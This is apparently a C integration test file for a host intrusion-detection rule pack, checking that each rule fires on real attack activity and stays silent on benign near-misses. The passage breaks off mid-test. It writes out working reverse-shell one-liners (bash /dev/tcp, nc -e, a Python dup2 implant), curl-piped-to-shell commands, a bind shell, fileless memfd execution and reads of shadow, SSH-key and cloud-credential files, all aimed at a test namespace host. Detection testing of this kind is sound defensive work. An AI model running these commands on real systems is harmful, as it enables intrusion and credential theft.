// SPDX-License-Identifier: (LGPL-2.1 OR BSD-2-Clause)
/*
 * rules/host.json against the real agent: for every rule, the real attack
 * (real binaries, real files, real connections) must raise the alert with
 * the right fields, and the benign near-misses of docs/packs/host.md must
 * not. Harness: rules_harness.h (header-only; see its top comment).
 *
 * Each test starts its own agent (Criterion runs every test in its own
 * process) after its set-up, so the set-up is not what the rules judge.
 * Network activity goes only to loopback or to 198.51.100.2, a host in a
 * namespace the test creates (rh_netns_up). Files outside the test's temp
 * dirs (/etc/cron.d, /etc/pam.d, /var/log/rhtest-PID, users...) are
 * created with names carrying the test's pid and removed in the fini, even
 * when the test fails.
 *
 * Where the real tool is not installed on Debian by default (netcat with
 * -e, xmrig, nmap), tests/integration/lab/rh_tool.c stands in: it does the
 * real network work and is named like the tool (the rules match the comm).
 */
#include "rules_harness.h"

#define NS_PEER RH_NS_PEER
#define SHELL_PORT 9001  /* the sink answers "exit\n": ends a reverse shell */
#define HTTP_PORT 8080   /* the sink answers GET with RH_SINK_BODY */
#define POOL_PORT 3333   /* mining pool */
#define IRC_PORT 6667
#define TLS_PORT 443
#define MQTT_PORT 1883

static const int ns_ports[] = { SHELL_PORT, HTTP_PORT, POOL_PORT, IRC_PORT, TLS_PORT, MQTT_PORT, 0 };
static struct rh_agent ag;

TestSuite(host, .fini = rh_cleanup, .timeout = 90);

/* ---- the rules, helpers ------------------------------------------------ */

static const char R_SHADOW[] = "Shadow file read by unexpected program";
static const char R_SSHKEY[] = "SSH private key read by unexpected program";
static const char R_CLOUD[] = "Cloud credentials read by unexpected program";
static const char R_DAEMON_SHELL[] = "Shell spawned by service daemon";
static const char R_REVSHELL[] = "Reverse shell command line";
static const char R_SHELL_AFTER_CONNECT[] = "Shell started after outbound connection";
static const char R_BIND_SHELL[] = "Bind shell listening";
static const char R_PIPE_SHELL[] = "Download piped to shell";
static const char R_STDIN_SHELL[] = "Shell reading stdin after download tool";
static const char R_TMP_EXEC[] = "Executable run from temporary directory";
static const char R_MEMFD[] = "Fileless execution from memfd";
static const char R_DELETED[] = "Execution of deleted binary";
static const char R_PRELOAD[] = "Dynamic linker preload set";
static const char R_CRON[] = "Cron job written";
static const char R_SYSTEMD[] = "Systemd unit written";
static const char R_AUTHKEYS[] = "SSH authorized_keys modified";
static const char R_PROFILE[] = "Shell profile modified";
static const char R_ACCOUNT_TOOL[] = "Account creation or modification tool run";
static const char R_ACCOUNT_DB[] = "Account database modified directly";
static const char R_SUDOERS[] = "Sudoers modified";
static const char R_PAM[] = "PAM configuration or module modified";
static const char R_SETUID[] = "Setuid or setgid bit set";
static const char R_SETCAP[] = "File capabilities set";
static const char R_LOG[] = "Log file deleted or truncated";
static const char R_HISTORY[] = "Shell history cleared";
static const char R_SHRED[] = "Secure deletion of logs or history";
static const char R_MINER[] = "Crypto-miner executed";
static const char R_POOL[] = "Connection to mining pool port";
static const char R_SCANNER[] = "Network scanner executed";
static const char R_CONN_BURST[] = "Connection failure burst";
static const char R_TWIN_EGRESS[] = "Twin service egress to unusual port";

/* Every rule this file tests; the test below holds rules/host.json to it. */
static const char *const covered[] = {
	R_SHADOW, R_SSHKEY, R_CLOUD, R_DAEMON_SHELL, R_REVSHELL, R_SHELL_AFTER_CONNECT,
	R_BIND_SHELL, R_PIPE_SHELL, R_STDIN_SHELL, R_TMP_EXEC, R_MEMFD, R_DELETED,
	R_PRELOAD, R_CRON, R_SYSTEMD, R_AUTHKEYS, R_PROFILE, R_ACCOUNT_TOOL, R_ACCOUNT_DB,
	R_SUDOERS, R_PAM, R_SETUID, R_SETCAP, R_LOG, R_HISTORY, R_SHRED, R_MINER, R_POOL,
	R_SCANNER, R_CONN_BURST, R_TWIN_EGRESS,
};

/* Serialise tests that change accounts (useradd locks /etc/passwd and fails
 * instead of waiting). Released when the worker exits. */
static void lock_accounts(void)
{
	int fd = open("/run/lock/rh-accounts.lock", O_RDWR | O_CREAT | O_CLOEXEC, 0600);
	int64_t deadline = rh_now_ms() + RH_LOCK_MS;

	cr_assert_geq(fd, 0);
	while (flock(fd, LOCK_EX | LOCK_NB) != 0) {
		cr_assert(rh_now_ms() < deadline, "accounts lock busy for %d ms", RH_LOCK_MS);
		rh_nap();
	}
}

/* Copy of /usr/bin/true at path (chmod 0755). */
static void copy_true(const char *path)
{
	rh_setup_sh("cp /usr/bin/true '%s' && chmod 0755 '%s'", path, path);
}


/* Every rule of the pack has a test here, and every rule tested exists. */
Test(host, every_rule_has_a_test)
{
	rh_expect_pack_covered(RH_RULES_DIR "/host.json", covered, sizeof(covered) / sizeof(covered[0]),
			       __FILE__);
}

/* Everyday admin and developer work raises no host alert at all: package
 * queries, compiling and running a program in a home, git, sed -i on a
 * project file, reading logs, account and key listings. */
Test(host, benign_admin_and_developer_activity_is_quiet)
{
	const char *home = rh_home_dir();
	pid_t pids[8];
	size_t np = 0;

	rh_setup_sh("mkdir '%1$s/proj' && printf '#include <stdio.h>\nint main(void) { puts(\"hi\"); return 0; }\n' "
		    "> '%1$s/proj/hello.c' && printf 'version = 1\n' > '%1$s/proj/app.conf'",
		    home);
	rh_start(&ag, NULL);

	pids[np++] = rh_run("dpkg -l > /dev/null && dpkg -s passwd > /dev/null && "
			    "apt list --installed > /dev/null 2>&1 && apt-cache policy dash > /dev/null");
	rh_assert_ok("package queries");
	pids[np++] = rh_runf("cd '%1$s/proj' && HOME='%1$s' gcc -O1 -o hello hello.c && ./hello", home);
	rh_assert_ok("gcc");
	pids[np++] = rh_runf("cd '%1$s/proj' && HOME='%1$s' git init -q . && git add hello.c app.conf && "
			     "git -c user.email=rh@example.invalid -c user.name=rh commit -qm init && "
			     "git log --oneline > /dev/null",
			     home);
	rh_assert_ok("git");
	pids[np++] = rh_runf("sed -i 's/version = 1/version = 2/' '%s/proj/app.conf'", home);
	rh_assert_ok("sed -i");
	pids[np++] = rh_run("ls -la /etc/ssh /etc/cron.d /etc/pam.d /var/log > /dev/null; "
			    "tail -n 5 /var/log/dpkg.log > /dev/null; getent passwd root > /dev/null; "
			    "id; ps -e > /dev/null; ss -tln > /dev/null; ip addr > /dev/null");
	rh_assert_ok("listings");
	for (size_t i = 0; i < np; i++)
		for (size_t r = 0; r < sizeof(covered) / sizeof(covered[0]); r++)
			rh_expect_no_alert(&ag, covered[r], pids[i]);
	rh_stop(&ag);
}

/* ====================================================================== */
/* Credential access                                                       */
/* ====================================================================== */

Test(host, shadow_file_read)
{
	const char *dumper = rh_path("hashdump");
	const cJSON *al;
	pid_t pid;

	rh_setup_sh("cp /usr/bin/cat '%s'", dumper);
	rh_start(&ag, NULL);

	/* A copied cat named like a dumper reads the hashes. */
	pid = rh_runf("'%s' /etc/shadow > /dev/null", dumper);
	rh_assert_ok("read shadow");
	al = rh_expect_alert_where(&ag, R_SHADOW, pid, "process.executable", dumper);
	rh_expect_alert_shape(al, R_SHADOW);
	rh_expect_str(al, "file.path", "/etc/shadow");
	rh_expect_str(al, "event.outcome", "success");

	/* Denied opens (EACCES) fire too: nobody trying gshadow. */
	pid = rh_run_as(65534, "cat /etc/gshadow");
	al = rh_expect_alert_where(&ag, R_SHADOW, pid, "process.executable", "/usr/bin/cat");
	rh_expect_str(al, "file.path", "/etc/gshadow");
	rh_expect_str(al, "event.outcome", "failure");
	rh_expect_num(al, "user.id", 65534);

	/* Near-misses: stat-only access, an O_PATH open, the shadow readers
	 * passwd and unix_chkpwd, a reader run by dpkg. */
	pid = rh_run("ls -l /etc/shadow /etc/gshadow; stat /etc/shadow; test -r /etc/shadow; "
		     "find /etc -maxdepth 1 -name 'shadow*'");
	rh_assert_ok("ls/stat");
	rh_expect_no_alert(&ag, R_SHADOW, pid);
	pid = rh_run("/usr/bin/python3 -c 'import os; os.close(os.open(\"/etc/shadow\", os.O_PATH))'");
	rh_assert_ok("O_PATH open");
	rh_expect_no_alert(&ag, R_SHADOW, pid);
	pid = rh_run("passwd -S root");
	rh_assert_ok("passwd -S");
	rh_expect_no_alert(&ag, R_SHADOW, pid);
	/* pam_unix's helper checking a (wrong) password, as at a login */
	pid = rh_run("printf wrong | /usr/sbin/unix_chkpwd root nullok; [ $? -eq 7 ]");
	rh_assert_ok("unix_chkpwd");
	rh_expect_no_alert(&ag, R_SHADOW, pid);
	pid = rh_run_under_dpkg("cat /etc/shadow > /dev/null");
	rh_expect_no_alert(&ag, R_SHADOW, pid);
	rh_stop(&ag);
}

Test(host, ssh_private_key_read)
{
	const char *home = rh_home_dir();
	const cJSON *al;
	char key[PATH_MAX];
	pid_t pid;

	snprintf(key, sizeof(key), "%s/.ssh/id_ed25519", home);
	rh_setup_sh("mkdir -m 700 '%1$s/.ssh' && ssh-keygen -q -t ed25519 -N '' -C rh -f '%2$s' && "
		    "cp '%2$s.pub' '%1$s/.ssh/authorized_keys' && "
		    "printf 'Host *\\n  IdentitiesOnly yes\\n' > '%1$s/.ssh/config' && "
		    "printf '198.51.100.2 %%s\\n' \"$(cut -d' ' -f1,2 '%2$s.pub')\" > '%1$s/.ssh/known_hosts'",
		    home, key);
	rh_start(&ag, NULL);

	pid = rh_runf("cat '%s' > /dev/null", key);
	rh_assert_ok("cat key");
	al = rh_expect_alert(&ag, R_SSHKEY, pid);
	rh_expect_alert_shape(al, R_SSHKEY);
	rh_expect_str(al, "file.path", key);
	rh_expect_str(al, "process.executable", "/usr/bin/cat");

	/* a copy under an innocent name, reading it with cp */
	pid = rh_runf("cp '%s' '%s'", key, rh_path("loot"));
	rh_assert_ok("cp key");
	al = rh_expect_alert(&ag, R_SSHKEY, pid);
	rh_expect_str(al, "process.executable", "/usr/bin/cp");

	/* Near-misses: public files of ~/.ssh, listing it, ssh-keygen. */
	pid = rh_runf("cd '%s/.ssh' && cat id_ed25519.pub known_hosts config authorized_keys "
		      "> /dev/null && ls -la . > /dev/null && stat id_ed25519 > /dev/null",
		      home);
	rh_assert_ok("public files");
	rh_expect_no_alert(&ag, R_SSHKEY, pid);
	pid = rh_runf("ssh-keygen -y -f '%s' > /dev/null && ssh-keygen -l -f '%s.pub'", key, key);
	rh_assert_ok("ssh-keygen");
	rh_expect_no_alert(&ag, R_SSHKEY, pid);
	rh_stop(&ag);
}

Test(host, cloud_credentials_read)
{
	const char *home = rh_home_dir();
	const cJSON *al;
	char cred[PATH_MAX];
	pid_t pid;

	snprintf(cred, sizeof(cred), "%s/.aws/credentials", home);
	rh_setup_sh("mkdir -p '%1$s/.aws' '%1$s/.kube' '%1$s/.config/gcloud' && "
		    "printf '[default]\\naws_access_key_id = AKIAEXAMPLE\\n' > '%1$s/.aws/credentials' && "
		    "printf 'apiVersion: v1\\nkind: Config\\n' > '%1$s/.kube/config' && "
		    "echo '{}' > '%1$s/.config/gcloud/application_default_credentials.json' && "
		    "echo 'notes' > '%1$s/.aws/README'",
		    home);
	rh_start(&ag, NULL);

	pid = rh_runf("cat '%s/.aws/credentials' > /dev/null", home);
	rh_assert_ok("cat credentials");
	al = rh_expect_alert(&ag, R_CLOUD, pid);
	rh_expect_alert_shape(al, R_CLOUD);
	rh_expect_str(al, "file.path", cred);
	rh_expect_str(al, "process.executable", "/usr/bin/cat");
	/* (an archive that is not /dev/null: GNU tar reads nothing for that) */
	pid = rh_runf("tar -cf '%s' -C '%s' .kube/config .config/gcloud", rh_path("loot.tar"), home);
	rh_assert_ok("tar");
	al = rh_expect_alert(&ag, R_CLOUD, pid);
	rh_expect_str(al, "process.executable", "/usr/bin/tar");

	/* Near-misses: listing, stat, other files in ~/.aws. */
	pid = rh_runf("ls -la '%1$s/.aws' '%1$s/.kube' > /dev/null && stat '%1$s/.aws/credentials' "
		      "> /dev/null && cat '%1$s/.aws/README' > /dev/null",
		      home);
	rh_assert_ok("ls/stat/README");
	rh_expect_no_alert(&ag, R_CLOUD, pid);
	rh_stop(&ag);
}

/* ====================================================================== */
/* Execution                                                               */
/* ====================================================================== */

/* A web app as www-data (uid 33) runs a CGI script: python's http.server
 * --cgi forks and execs the script, a shell, as its own user. */
Test(host, shell_spawned_by_service_daemon)
{
	const char *www = rh_path("www");
	const cJSON *al;
	int port = rh_lo_port(0);
	pid_t pid;

	rh_setup_sh("mkdir -p '%1$s/cgi-bin' && printf '#!/bin/sh\\nprintf \"Content-Type: text/plain\\\\r\\\\n\\\\r\\\\n\"\\nid\\n' "
		    "> '%1$s/cgi-bin/shell.cgi' && chmod 0755 '%1$s/cgi-bin/shell.cgi' && mkdir -m 1777 '%2$s'",
		    www, rh_path("u"));
	rh_start(&ag, NULL);

	/* poll the server with a deadline (200 x 50 ms) until the CGI answers */
	pid = rh_run_asf(33, "cd '%1$s' && /usr/bin/python3 -m http.server --cgi --bind 127.0.0.1 %2$d "
			     ">/dev/null 2>&1 & srv=$!; i=0; "
			     "until curl -fsS -o '%3$s' http://127.0.0.1:%2$d/cgi-bin/shell.cgi; do "
			     "i=$((i+1)); [ $i -lt 200 ] || break; sleep 0.05; done; kill $srv; wait $srv; "
			     "grep -q 'uid=33' '%3$s'",
			 www, port, rh_path("u/cgi.out"));
	rh_assert_ok("CGI request");
	al = rh_expect_alert_where(&ag, R_DAEMON_SHELL, pid, "process.parent.executable",
				   "/usr/bin/python3.11");
	rh_expect_alert_shape(al, R_DAEMON_SHELL);
	rh_expect_str(al, "process.executable", "/usr/bin/dash");
	rh_expect_num(al, "user.id", 33);
	rh_expect_contains(al, "process.command_line", "shell.cgi");

	/* Near-misses: the same runtime as a developer's uid 1000 or as root;
	 * apache-style piped logs run by a service account. */
	pid = rh_run_as(1000, "/usr/bin/python3 -c 'import subprocess; subprocess.run([\"/bin/sh\", \"-c\", \"true\"], check=True)'");
	rh_assert_ok("developer python");
	rh_expect_no_alert(&ag, R_DAEMON_SHELL, pid);
	pid = rh_run("/usr/bin/python3 -c 'import subprocess; subprocess.run([\"/bin/sh\", \"-c\", \"true\"], check=True)'");
	rh_assert_ok("root python");
	rh_expect_no_alert(&ag, R_DAEMON_SHELL, pid);
	pid = rh_run_as(33, "/usr/bin/python3 -c 'import subprocess; subprocess.run([\"/bin/sh\", \"-c\", \": /usr/bin/rotatelogs /var/log/app/access.%Y%m%d 86400\"], check=True)'");
	rh_assert_ok("piped logs");
	rh_expect_no_alert(&ag, R_DAEMON_SHELL, pid);
	rh_stop(&ag);
}

Test(host, reverse_shell_command_line)
{
	const char *nc = rh_tool("nc");
	const cJSON *al;
	pid_t pid;

	rh_netns_up(ns_ports);
	rh_start(&ag, NULL);

	/* bash's /dev/tcp: bash -i on the socket; the sink sends "exit". */
	pid = rh_run("bash -c 'bash -i >& /dev/tcp/" NS_PEER "/9001 0>&1'");
	al = rh_expect_alert_where(&ag, R_REVSHELL, pid, "process.executable", "/usr/bin/bash");
	rh_expect_alert_shape(al, R_REVSHELL);
	rh_expect_contains(al, "process.command_line", "/dev/tcp/" NS_PEER "/9001");

	/* netcat -e */
	pid = rh_runf("'%s' " NS_PEER " 9001 -e /bin/sh", nc);
	al = rh_expect_alert_where(&ag, R_REVSHELL, pid, "process.executable", nc);
	rh_expect_str(al, "process.name", "nc");
	rh_expect_contains(al, "process.command_line", "-e /bin/sh");

	/* python one-liner */
	pid = rh_run("/usr/bin/python3 -c 'import socket,os; s=socket.socket(); s.connect((\"" NS_PEER
		     "\", 9001)); [os.dup2(s.fileno(), f) for f in (0, 1, 2)]; os.execv(\"/bin/sh\", [\"sh\", \"-i\"])'");
	al = rh_expect_alert_where(&ag, R_REVSHELL, pid, "process.executable", "/usr/bin/python3.11");
	rh_expect_contains(al, "process.command_line", "dup2");

	/* Near-misses: a wait-for-it port probe, nc -z, a plain socket client. */
	pid = rh_run("timeout 5 bash -c '</dev/tcp/" NS_PEER "/9001'");
	rh_assert_ok("port probe");
	rh_expect_no_alert(&ag, R_REVSHELL, pid);
	pid = rh_runf("'%s' -z " NS_PEER " 9001", nc);
	rh_assert_ok("nc -z");
	rh_expect_no_alert(&ag, R_REVSHELL, pid);
	pid = rh_run("/usr/bin/python3 -c 'import socket; socket.create_connection((\"" NS_PEER
		     "\", 9001), timeout=5).close()'");
	rh_assert_ok("socket client");
	rh_expect_no_alert(&ag, R_REVSHELL, pid);
	rh_stop(&ag);
}

/* An implant with an innocent command line: connect, then a shell on the
 * socket in the same process (mode shell), or a hook "sh -c true" after
 * the connect (mode hook). Refusals are retried for 5 s (a local listener
 * started in the background). */
static const char implant_py[] =
	"import os, socket, subprocess, sys, time\n"
	"host, port, mode = sys.argv[1], int(sys.argv[2]), sys.argv[3]\n"
	"deadline = time.monotonic() + 5\n"
	"while True:\n"
	"    s = socket.socket()\n"
	"    try:\n"
	"        s.connect((host, port))\n"
	"        break\n"
	"    except ConnectionRefusedError:\n"
	"        s.close()\n"
	"        if time.monotonic() > deadline:\n"
	"            raise\n"
	"        time.sleep(0.01)\n"
	"if mode == 'hook':\n"
	"    subprocess.run(['/bin/sh', '-c', 'true'], check=True)\n"
	"    sys.exit(0)\n"
	"for fd in (0, 1, 2):\n"
	"    os.dup2(s.fileno(), fd)\n"
	"os.execv('/bin/sh', ['sh'])\n";

/* A loopback listener that answers "exit\n" once, in the background. */
#define LO_LISTENER                                                                               \
	"/usr/bin/python3 -c 'import socket; s = socket.socket(); "                                \
	"s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); s.bind((\"127.0.0.1\", %1$d)); " \
	"s.listen(1); s.settimeout(10); c, _ = s.accept(); c.sendall(b\"exit\\n\"); c.settimeout(2); " \
	"c.recv(100)' & "

Test(host, shell_started_after_outbound_connection)
{
	const char *implant = rh_path("implant.py");
	const cJSON *al;
	pid_t pid;

	rh_file_write(implant, implant_py);
	rh_netns_up(ns_ports);
	rh_start(&ag, NULL);

	pid = rh_runf("/usr/bin/python3 '%s' " NS_PEER " 9001 shell", implant);
	rh_assert_ok("implant");
	al = rh_expect_alert(&ag, R_SHELL_AFTER_CONNECT, pid);
	rh_expect_alert_shape(al, R_SHELL_AFTER_CONNECT);
	rh_expect_str(al, "process.executable", "/usr/bin/dash");
	rh_expect_str(al, "event.action", "exec");
	rh_expect_str(al, "twinguard.alert.kind", "sequence");
	if (al) {
		const cJSON *s0 = cJSON_GetArrayItem(rh_jget(al, "twinguard.alert.details.steps"), 0);

		rh_expect_str(s0, "action", "connect");
		rh_expect_str(s0, "executable", "/usr/bin/python3.11");
		rh_expect_contains(s0, "destination", NS_PEER ":9001");
	}
	/* no tell-tale command line: only the sequence sees it */
	rh_expect_no_alert(&ag, R_REVSHELL, pid);

	/* Near-misses: the same to a loopback listener; a connect followed by
	 * a hook shell (git pull running "sh -c"). */
	pid = rh_runf(LO_LISTENER "/usr/bin/python3 '%2$s' 127.0.0.1 %1$d shell; wait", rh_lo_port(1),
		      implant);
	rh_assert_ok("loopback implant");
	rh_expect_no_alert(&ag, R_SHELL_AFTER_CONNECT, pid);
	pid = rh_runf("/usr/bin/python3 '%s' " NS_PEER " 9001 hook", implant);
	rh_assert_ok("hook");
	rh_expect_no_alert(&ag, R_SHELL_AFTER_CONNECT, pid);
	rh_stop(&ag);
}

/* Near-miss with the destination in the profile's egress_networks. */
Test(host, shell_after_connect_allowlisted_egress)
{
	const char *implant = rh_path("implant.py");
	pid_t pid;

	rh_file_write(implant, implant_py);
	rh_netns_up(ns_ports);
	rh_start(&ag, "{\"name\": \"rh-allow\", \"egress_networks\": [\"127.0.0.0/8\", \"198.51.100.0/24\"]}");
	pid = rh_runf("/usr/bin/python3 '%s' " NS_PEER " 9001 shell", implant);
	rh_assert_ok("implant");
	rh_expect_no_alert(&ag, R_SHELL_AFTER_CONNECT, pid);
	rh_stop(&ag);
}

Test(host, bind_shell_listening)
{
	const char *nc = rh_tool("nc");
	const char *client = rh_tool("rh-client");
	const cJSON *al;
	int port = rh_lo_port(2);
	pid_t pid;

	rh_start(&ag, NULL);
	/* nc -l -e /bin/sh; a client connects and sends the shell "id; exit" */
	pid = rh_runf("'%1$s' -l -p %3$d -e /bin/sh & '%2$s' --send 127.0.0.1 %3$d 'id; exit\n'; wait",
		      nc, client, port);
	rh_assert_ok("bind shell");
	al = rh_expect_alert(&ag, R_BIND_SHELL, pid);
	rh_expect_alert_shape(al, R_BIND_SHELL);
	rh_expect_str(al, "event.action", "listen");
	rh_expect_str(al, "process.executable", nc);
	rh_expect_num(al, "source.port", port);

	/* Near-misses: an interpreter listening (http.server-like), a relay. */
	pid = rh_run("/usr/bin/python3 -c 'import socket; s = socket.socket(); s.bind((\"127.0.0.1\", 0)); s.listen(1); s.close()'");
	rh_assert_ok("python listen");
	rh_expect_no_alert(&ag, R_BIND_SHELL, pid);
	rh_stop(&ag);
}

Test(host, download_piped_to_shell)
{
	const cJSON *al;
	pid_t pid;

	rh_netns_up(ns_ports);
	rh_start(&ag, NULL);

	pid = rh_run("curl -fsS http://" NS_PEER ":8080/install.sh | sh");
	rh_assert_ok("curl | sh");
	al = rh_expect_alert_where(&ag, R_PIPE_SHELL, pid, "process.executable", "/usr/bin/dash");
	rh_expect_alert_shape(al, R_PIPE_SHELL);
	rh_expect_num(al, "process.pid", pid);
	rh_expect_contains(al, "process.command_line", "| sh");

	pid = rh_run("bash -c 'wget -qO- http://" NS_PEER ":8080/install.sh | bash'");
	rh_assert_ok("wget | bash");
	al = rh_expect_alert_where(&ag, R_PIPE_SHELL, pid, "process.executable", "/usr/bin/bash");
	rh_expect_contains(al, "process.command_line", "wget");

	pid = rh_run("bash -c 'echo ZWNobyBoaQo= | base64 -d | sh'");
	rh_assert_ok("base64 | sh");
	rh_expect_alert_where(&ag, R_PIPE_SHELL, pid, "process.executable", "/usr/bin/bash");

	/* Near-misses: a checksum of the download, a download to a file. */
	pid = rh_run("bash -c 'curl -fsS http://" NS_PEER ":8080/f.tgz | sha256sum'");
	rh_assert_ok("curl | sha256sum");
	rh_expect_no_alert(&ag, R_PIPE_SHELL, pid);
	pid = rh_runf("bash -c 'curl -fsS -o %s http://" NS_PEER ":8080/i.sh'", rh_path("i.sh"));
	rh_assert_ok("curl -o");
	rh_expect_no_alert(&ag, R_PIPE_SHELL, pid);
	rh_stop(&ag);
}

/* Keyed by user: each scenario runs as its own uid. The shell reads the
 * download's first line before starting sh, so curl's exec always comes
 * first (the rule's documented limit is the race of a bare "curl | sh"). */
Test(host, shell_reading_stdin_after_download)
{
	const cJSON *al;
	pid_t pid;

	rh_setup_sh("mkdir -m 1777 '%s'", rh_path("u"));
	rh_netns_up(ns_ports);
	rh_start(&ag, NULL);

	pid = rh_run_as(rh_uid(0), "curl -fsS http://" NS_PEER ":8080/install.sh | "
				     "{ IFS= read -r line; printf '%s\\n' \"$line\" | sh; }");
	rh_assert_ok("curl | sh");
	al = rh_expect_alert(&ag, R_STDIN_SHELL, pid);
	rh_expect_alert_shape(al, R_STDIN_SHELL);
	rh_expect_str(al, "process.executable", "/usr/bin/dash");
	rh_expect_num(al, "process.args_count", 1);
	rh_expect_num(al, "user.id", rh_uid(0));
	if (al) {
		const cJSON *s0 = cJSON_GetArrayItem(rh_jget(al, "twinguard.alert.details.steps"), 0);

		rh_expect_str(s0, "executable", "/usr/bin/curl");
	}

	/* Near-misses: download to a file then "sh file"; curl by one user,
	 * a stdin shell by another. */
	pid = rh_run_asf(rh_uid(1), "curl -fsS -o '%1$s' http://" NS_PEER ":8080/i.sh && sh '%1$s'",
			 rh_path("u/i.sh"));
	rh_assert_ok("curl -o; sh file");
	rh_expect_no_alert(&ag, R_STDIN_SHELL, pid);
	rh_run_as(rh_uid(2), "curl -fsS -o /dev/null http://" NS_PEER ":8080/i.sh");
	rh_assert_ok("curl");
	pid = rh_run_as(rh_uid(3), "echo 'echo hi' | sh");
	rh_assert_ok("other user's sh");
	rh_expect_no_alert(&ag, R_STDIN_SHELL, pid);
	rh_stop(&ag);
}

Test(host, executable_run_from_temporary_directory)
{
	const char *dropper = rh_path("dropper");
	char shm[PATH_MAX], notmp[PATH_MAX], gobuild[PATH_MAX], tmpl[] = "/tmprh.XXXXXX",
		gtmpl[] = "/tmp/go-build.XXXXXX";
	const cJSON *al;
	pid_t pid;

	copy_true(dropper);
	snprintf(shm, sizeof(shm), "/dev/shm/rh-dropper-%d", (int)getpid());
	rh_defer_rm(shm);
	copy_true(shm);
	cr_assert_not_null(mkdtemp(tmpl));
	rh_defer_rm(tmpl);
	snprintf(notmp, sizeof(notmp), "%s/tool", tmpl);
	copy_true(notmp);
	cr_assert_not_null(mkdtemp(gtmpl));
	rh_defer_rm(gtmpl);
	snprintf(gobuild, sizeof(gobuild), "%s/b001/exe/main", gtmpl);
	rh_setup_sh("mkdir -p '%s/b001/exe'", gtmpl);
	copy_true(gobuild);
	rh_start(&ag, NULL);

	pid = rh_runf("'%s' --payload", dropper);
	rh_assert_ok("dropper");
	al = rh_expect_alert(&ag, R_TMP_EXEC, pid);
	rh_expect_alert_shape(al, R_TMP_EXEC);
	rh_expect_str(al, "process.executable", dropper);
	pid = rh_runf("'%s'", shm);
	rh_assert_ok("/dev/shm");
	al = rh_expect_alert(&ag, R_TMP_EXEC, pid);
	rh_expect_str(al, "process.executable", shm);

	/* Near-misses: /tmpfoo-like dir, go run's build dir, a maintainer
	 * script under dpkg. */
	pid = rh_runf("'%s'", notmp);
	rh_assert_ok("/tmprh");
	rh_expect_no_alert(&ag, R_TMP_EXEC, pid);
	pid = rh_runf("'%s'", gobuild);
	rh_assert_ok("go-build");
	rh_expect_no_alert(&ag, R_TMP_EXEC, pid);
	{
		char cmd[PATH_MAX + 16];

		snprintf(cmd, sizeof(cmd), "%s", dropper);
		pid = rh_run_under_dpkg(cmd);
		rh_expect_no_alert(&ag, R_TMP_EXEC, pid);
	}
	rh_stop(&ag);
}

#define MEMFD_EXEC_PY                                                                    \
	"/usr/bin/python3 -c 'import os; fd = os.memfd_create(\"%s\", 0); "                   \
	"os.write(fd, open(\"/usr/bin/true\", \"rb\").read()); "                              \
	"os.execv(\"/proc/self/fd/%%d\" %% fd, [\"payload\"])'"

Test(host, fileless_execution_from_memfd)
{
	const cJSON *al;
	pid_t pid;

	rh_start(&ag, NULL);
	pid = rh_runf(MEMFD_EXEC_PY, "rh-payload");
	rh_assert_ok("memfd exec");
	al = rh_expect_alert(&ag, R_MEMFD, pid);
	rh_expect_alert_shape(al, R_MEMFD);
	rh_expect_contains(al, "process.executable", "/memfd:rh-payload");
	if (al)
		cr_expect(cJSON_IsTrue(rh_jget(al, "twinguard.exe_memfd")), "exe_memfd not true");

	/* Near-misses: runc's self clone; a memfd that is created, not run. */
	pid = rh_runf(MEMFD_EXEC_PY, "runc_cloned:/proc/self/exe");
	rh_assert_ok("runc clone");
	rh_expect_no_alert(&ag, R_MEMFD, pid);
	pid = rh_run("/usr/bin/python3 -c 'import os; fd = os.memfd_create(\"rh-buffer\"); os.write(fd, b\"x\"); os.close(fd)'");
	rh_assert_ok("memfd only");
	rh_expect_no_alert(&ag, R_MEMFD, pid);
	rh_stop(&ag);
}

Test(host, execution_of_deleted_binary)
{
	const char *gone = rh_path("rh-gone");
	const char *busy = rh_path("rh-upgraded");
	const cJSON *al;
	pid_t pid;

	copy_true(gone);
	rh_setup_sh("cp /usr/bin/cat '%s'", busy);
	rh_start(&ag, NULL);

	/* open, unlink, exec through the fd: no link left at exec time */
	pid = rh_runf("/usr/bin/python3 -c 'import os; fd = os.open(\"%s\", os.O_RDONLY); "
		      "os.unlink(\"%s\"); os.execv(\"/proc/self/fd/%%d\" %% fd, [\"rh-gone\"])'",
		      gone, gone);
	rh_assert_ok("deleted exec");
	al = rh_expect_alert(&ag, R_DELETED, pid);
	rh_expect_alert_shape(al, R_DELETED);
	rh_expect_contains(al, "process.executable", gone);
	if (al)
		cr_expect(cJSON_IsTrue(rh_jget(al, "twinguard.exe_deleted")), "exe_deleted not true");

	/* Near-misses: a memfd exec (the memfd rule's); a binary deleted
	 * after it started: cat echoes a byte first, so its exec is over
	 * (Popen returns at the exec's point of no return, before the exec
	 * event, which would make the unlink race it). */
	pid = rh_runf(MEMFD_EXEC_PY, "rh-payload");
	rh_assert_ok("memfd exec");
	rh_expect_no_alert(&ag, R_DELETED, pid);
	pid = rh_runf("/usr/bin/python3 -c 'import os, subprocess; p = subprocess.Popen([\"%s\"], "
		      "stdin=subprocess.PIPE, stdout=subprocess.PIPE); p.stdin.write(b\"x\"); p.stdin.flush(); "
		      "assert p.stdout.read(1) == b\"x\"; os.unlink(\"%s\"); p.communicate(); "
		      "assert p.returncode == 0'",
		      busy, busy);
	rh_assert_ok("upgrade while running");
	rh_expect_no_alert(&ag, R_DELETED, pid);
	rh_stop(&ag);
}

/* ====================================================================== */
/* Persistence and privilege escalation                                    */
/* ====================================================================== */

Test(host, dynamic_linker_preload_set)
{
	const cJSON *al;
	bool made = false;
	pid_t pid;

	rh_start(&ag, NULL);
	pid = rh_run("env LD_PRELOAD=libm.so.6 /usr/bin/true");
	rh_assert_ok("env LD_PRELOAD");
	al = rh_expect_alert_where(&ag, R_PRELOAD, pid, "process.executable", "/usr/bin/env");
	rh_expect_alert_shape(al, R_PRELOAD);
	rh_expect_str(al, "event.action", "exec");
	rh_expect_contains(al, "process.command_line", "LD_PRELOAD=libm.so.6");

	/* /etc/ld.so.preload, only when there is none (an empty one preloads
	 * nothing): created with O_EXCL (set -C), removed in the fini. */
	if (access("/etc/ld.so.preload", F_OK) != 0) {
		rh_defer_rm("/etc/ld.so.preload");
		pid = rh_run("set -C; : > /etc/ld.so.preload");
		rh_assert_ok("create ld.so.preload");
		made = true;
		al = rh_expect_alert(&ag, R_PRELOAD, pid);
		rh_expect_str(al, "file.path", "/etc/ld.so.preload");
		rh_expect_str(al, "event.action", "open");
		/* Near-miss: every dynamically linked program now reads it. */
		pid = rh_run("/usr/bin/true && /usr/bin/id > /dev/null");
		rh_assert_ok("readers");
